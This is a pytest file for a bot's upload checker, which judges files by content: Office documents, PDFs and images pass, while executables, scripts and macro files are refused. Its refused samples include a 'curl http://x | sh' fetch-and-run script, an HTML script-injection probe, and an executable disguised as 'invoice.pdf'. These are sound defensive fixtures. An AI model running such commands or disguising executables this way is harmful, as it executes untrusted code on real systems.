"""Evidence judged by its content: the kinds the bot accepts pass, whatever they are called;
executables, scripts, empty files and macro-enabled Office files do not."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest

from services.files.file_kinds import ACCEPTED, judge_file
from tests.fakes.bot_api import tiny_png

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("[Content_Types].xml", *names):
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


def xlsx() -> bytes:
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def ole(*streams: str) -> bytes:
    """An OLE compound file's header and a directory sector naming `streams` (UTF-16LE)."""
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\x00") + struct.pack("<H", 2 * len(name) + 2)
        for name in ("Root Entry", *streams)
    )
    return OLE + b"\x00" * 504 + entries


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 200


def webp() -> bytes:
    return b"RIFF" + struct.pack("<I", 200) + b"WEBPVP8 " + b"\x00" * 200


def heic() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + b"\x00" * 200


PE = b"MZ\x90\x00\x03" + b"\x00" * 55 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"%PDF-1.7\n1 0 obj << >> endobj\n%%EOF", "pdf"),
        (b"\r\n%PDF-1.4 after a little junk", "pdf"),
        (zipped("word/document.xml"), "docx"),
        (xlsx(), "xlsx"),
        (zipped("xl/workbook.xml", "xl/worksheets/sheet1.xml"), "xlsx"),
        (ole("WordDocument", "1Table"), "doc"),
        (ole("Workbook"), "xls"),
        (ole("Book"), "xls"),
        (jpeg(), "jpg"),
        (tiny_png(), "png"),
        (webp(), "webp"),
        (heic(), "heic"),
    ],
)
def test_the_accepted_kinds_are_recognised_by_their_content(content: bytes, kind: str) -> None:
    judged = judge_file(content)
    assert (judged.kind, judged.accepted) == (kind, True)
    assert kind in ACCEPTED


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (PE, "exe"),
        (ELF, "elf"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "script"),
        (b"", "empty"),
        (zipped("xl/workbook.xml", "xl/vbaProject.bin"), "macro"),
        (zipped("word/document.xml", "word/vbaProject.bin"), "macro"),
        (ole("WordDocument", "_VBA_PROJECT"), "macro"),
        (ole("\u4840\u463f\u4177"), "ole"),  # an .msi installer: OLE, but no Office stream
        (zipped("payload.exe"), "zip"),
        (b"GIF89a" + b"\x00" * 100, "gif"),
        (b"<html><script>alert(1)</script></html>", "unknown"),
        (zlib.compress(b"x" * 100), "unknown"),
    ],
)
def test_everything_else_is_refused_with_what_it_was_found_to_be(
    content: bytes, found: str
) -> None:
    judged = judge_file(content)
    assert (judged.kind, judged.found, judged.accepted) == (None, found, False)


def test_a_file_is_judged_by_path_too(tmp_path: Path) -> None:
    path = tmp_path / "invoice.pdf"
    path.write_bytes(PE)
    assert judge_file(path).found == "exe"
